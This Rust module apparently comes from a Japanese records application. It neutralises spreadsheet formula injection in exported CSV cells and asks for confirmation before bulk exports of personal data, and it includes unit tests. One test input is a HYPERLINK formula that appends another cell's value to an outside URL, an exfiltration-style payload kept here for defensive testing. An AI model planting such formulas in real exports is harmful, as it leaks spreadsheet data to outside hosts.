//! Records leaving the system as files. A cell a spreadsheet would run as a formula is
//! neutralised (a title `=HYPERLINK(...)` must stay text when the chief opens the CSV in
//! Excel), and a file that holds so many rows that it is a bulk export is confirmed before it
//! leaves (000 第3章第3節: a warning when more than a set amount of personal information leaves a
//! terminal).

use std::borrow::Cow;

/// Rows above which a file counts as a bulk export, until the administrator sets another.
pub const DEFAULT_BULK_EXPORT_ROWS: usize = 500;

/// Whether a file of `rows` rows is a bulk export under `threshold`.
pub fn is_bulk(rows: usize, threshold: usize) -> bool {
    rows > threshold
}

/// What the person is asked before a bulk export of `rows` rows of `what` leaves, or `None`
/// when it is not a bulk export.
pub fn bulk_export_question(what: &str, rows: usize, threshold: usize) -> Option<String> {
    is_bulk(rows, threshold).then(|| {
        format!(
            "{what}を{}件書き出そうとしています（{}件を超える一括出力）。個人情報を含む可能性があります。保管場所に注意し、不要になったら削除してください。この出力は監査ログに記録されます。書き出しますか？",
            crate::validation::group_digits(rows),
            crate::validation::group_digits(threshold)
        )
    })
}

/// Characters that make a spreadsheet read a cell as a formula (or, for tab and carriage
/// return, move the rest into another cell first). The full-width forms are there because a
/// Japanese IME types them and Excel converts them on entry.
const FORMULA_LEADS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// `cell` as text a spreadsheet shows but never runs: a leading formula character gets a `'`
/// before it (OWASP's advice for CSV injection); anything else is unchanged.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_LEADS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a spreadsheet would read `cell` as a formula, for writers that mark such a cell as
/// text instead of changing it (an .xlsx cell with the quote prefix).
pub fn would_run_as_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA_LEADS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn asks_only_above_the_threshold() {
        assert_eq!(bulk_export_question("依頼一覧", 500, 500), None);
        let q = bulk_export_question("依頼一覧", 1234, 500).unwrap();
        assert!(
            q.starts_with("依頼一覧を1,234件書き出そうとしています"),
            "{q}"
        );
        assert!(q.contains("500件を超える一括出力"));
        assert!(bulk_export_question("依頼一覧", 11, 10).is_some());
        assert!(!is_bulk(10, 10));
    }

    #[test]
    fn formula_cells_are_neutralised_and_others_untouched() {
        assert_eq!(
            spreadsheet_safe(r#"=HYPERLINK("https://example.com/"&E2,"詳細")"#),
            r#"'=HYPERLINK("https://example.com/"&E2,"詳細")"#
        );
        for lead in ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝１＋１"] {
            let safe = spreadsheet_safe(lead);
            assert!(safe.starts_with('\''), "{lead:?} → {safe:?}");
            assert!(would_run_as_formula(lead));
        }
        for plain in ["返戻レセプトの再審査", "1+1", "a=b", "", "'quoted"] {
            assert_eq!(spreadsheet_safe(plain), plain);
            assert!(!would_run_as_formula(plain));
        }
    }
}
